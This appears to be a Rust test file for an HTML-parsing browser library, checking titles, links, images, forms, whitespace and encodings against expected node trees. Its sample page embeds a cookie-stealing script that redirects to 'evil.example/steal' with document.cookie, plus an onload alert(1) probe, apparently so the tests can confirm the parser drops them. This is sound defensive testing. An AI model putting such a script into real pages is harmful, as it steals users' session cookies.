//! Realistic pages: the tree they give, node by node.

use super::*;
use pola_browser::{FieldKind, Method, plain_text};

const NEWS: &str = r##"<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>  The   Daily
     Example </title>
  <base href="https://cdn.example.org/site/">
  <link rel="stylesheet" href="https://evil.example/style.css">
  <style>body { background: url(https://evil.example/bg.png) }</style>
  <script>location = "https://evil.example/steal?" + document.cookie</script>
</head>
<body class="x" onload="alert(1)">
  <header><nav><a href="/">Home</a> | <a href="news/today.html">Today</a></nav></header>
  <main>
    <h1>Headline <em>news</em></h1>
    <p>First   paragraph,
       with <b>bold</b> and <a href="#top">a fragment link</a>.</p>
    <ul>
      <li>one</li>
      <li>two <code>x = 1</code></li>
    </ul>
    <ol><li>first</li></ol>
    <table>
      <thead><tr><th>Name</th><th>Price</th></tr></thead>
      <tbody><tr><td>Tea</td><td>3</td></tr></tbody>
    </table>
    <img src="pics/cat.png" alt="A  cat">
    <img src="pics/dog.png">
    <pre>  keep
    this</pre>
    <blockquote>Quoted<br>text</blockquote>
    <hr>
    <form action="/search" method="GET">
      <label>Find: <input name="q" placeholder="Search  terms"></label>
      <input type="hidden" name="token" value="abc">
      <input type="checkbox" name="exact" checked>
      <select name="lang"><option value="en">English</option><option value="fr" selected>French</option></select>
      <textarea name="note">hello
world</textarea>
      <button>Go</button>
    </form>
  </main>
  <footer>© 2026</footer>
</body>
</html>"##;

#[test]
fn a_realistic_page() {
    let p = page(NEWS);
    check(&p, &Limits::default());
    assert_eq!(p.title, "The Daily Example");
    assert!(!p.truncated);
    let links: Vec<&str> = p.links.iter().map(Url::as_str).collect();
    assert_eq!(
        links,
        [
            "https://cdn.example.org/",
            "https://cdn.example.org/site/news/today.html",
            "https://cdn.example.org/site/#top",
        ]
    );
    let images: Vec<(&str, &str)> = p
        .images
        .iter()
        .map(|i| (i.url.as_str(), i.alt.as_str()))
        .collect();
    assert_eq!(
        images,
        [
            ("https://cdn.example.org/site/pics/cat.png", "A cat"),
            ("https://cdn.example.org/site/pics/dog.png", ""),
        ]
    );
    assert_eq!(p.forms.len(), 1);
    let f = &p.forms[0];
    assert_eq!(f.action.as_str(), "https://cdn.example.org/search");
    assert_eq!(f.method, Method::Get);
    let fields: Vec<(&str, FieldKind, &str)> = f
        .fields
        .iter()
        .map(|x| (x.name.as_str(), x.kind, x.value.as_str()))
        .collect();
    assert_eq!(
        fields,
        [
            ("q", FieldKind::Text, ""),
            ("token", FieldKind::Hidden, "abc"),
            ("exact", FieldKind::Checkbox, "on"),
            ("lang", FieldKind::Select, "French"),
            ("note", FieldKind::Textarea, "hello\nworld"),
            ("", FieldKind::Submit, "Go"),
        ]
    );
    let expected = concat!(
        "<block ",
        "<block <block <link <L 0> \"Home\"> \" | \" <link <L 1> \"Today\">>> ",
        "<block ",
        "<heading 1 \"Headline \" <em \"news\">> ",
        "<para \"First paragraph, with \" <strong \"bold\"> \" and \" <link <L 2> \"a fragment link\"> \".\"> ",
        "<list f <item \"one\"> <item \"two \" <code \"x = 1\">>> ",
        "<list t <item \"first\">> ",
        "<table <tr <cell t \"Name\"> <cell t \"Price\">> <tr <cell f \"Tea\"> <cell f \"3\">>> ",
        "<image <I 0> \"A cat\"> \" \" <image <I 1> \"\"> ",
        "<pre \"  keep\\n    this\"> ",
        "<quote \"Quoted\" <break> \"text\"> ",
        "<rule> ",
        "<form <F 0> \"Find: \" <field \"q\" 'text \"\" \"Search terms\" []> ",
        "\" \" <field \"exact\" 'checkbox \"on\" \"\" []> ",
        "\" \" <field \"lang\" 'select \"French\" \"\" [\"English\" \"French\"]> ",
        "\" \" <field \"note\" 'textarea \"hello\\nworld\" \"\" []> ",
        "\" \" <field \"\" 'submit \"Go\" \"\" []>>> ",
        "<block \"© 2026\">>"
    );
    assert_eq!(show(&p), expected);
}

#[test]
fn plain_text_is_one_pre() {
    let p = plain_text(b"line  one\n<b>not bold</b>\n", &Limits::default());
    assert_eq!(show(&p), "<block <pre \"line  one\\n<b>not bold</b>\\n\">>");
    assert!(p.links.is_empty() && !p.truncated);
    check(&p, &Limits::default());
    let small = Limits {
        max_text: 4,
        ..Limits::default()
    };
    let p = plain_text("héllo".as_bytes(), &small);
    assert_eq!(show(&p), "<block <pre \"hél\">>");
    assert!(p.truncated);
}

#[test]
fn whitespace_collapses_like_a_browser() {
    let p = page(
        "<p>  a \n\t b  <i> c </i> d </p>\n\n<p>e</p><div> <span>f</span> <span>g</span> </div>",
    );
    assert_eq!(
        show(&p),
        "<block <para \"a b \" <em \"c \"> \"d\"> <para \"e\"> <block \"f g\">>"
    );
}

#[test]
fn stray_structure_keeps_its_shape() {
    // Content straight in a list or table gets an item, row or cell.
    let p = page(
        "<ul>loose<li>a</li><p>para</p></ul><li>lonely</li><table><caption>Cap</caption><tr><td>x</td></tr></table>",
    );
    check(&p, &Limits::default());
    assert_eq!(
        show(&p),
        "<block <list f <item \"loose\"> <item \"a\"> <item <para \"para\">>> <block \"lonely\"> <table <tr <cell f \"Cap\">> <tr <cell f \"x\">>>>"
    );
}

#[test]
fn windows_1252_by_meta_and_utf8_otherwise() {
    let p = parse(
        b"<meta charset=windows-1252><title>Caf\xe9</title><p>\x93hi\x94",
        &base(),
        &Limits::default(),
    );
    assert_eq!(p.title, "Caf\u{e9}");
    assert_eq!(strings(&tree(&p)), "\u{201c}hi\u{201d}");
    let p = parse(
        b"<title>Caf\xc3\xa9 \xff</title>",
        &base(),
        &Limits::default(),
    );
    assert_eq!(p.title, "Caf\u{e9} \u{fffd}");
    let p = parse(
        b"\xff\xfe<\x00p\x00>\x00h\x00i\x00",
        &base(),
        &Limits::default(),
    );
    assert_eq!(show(&p), "<block <para \"hi\">>");
}
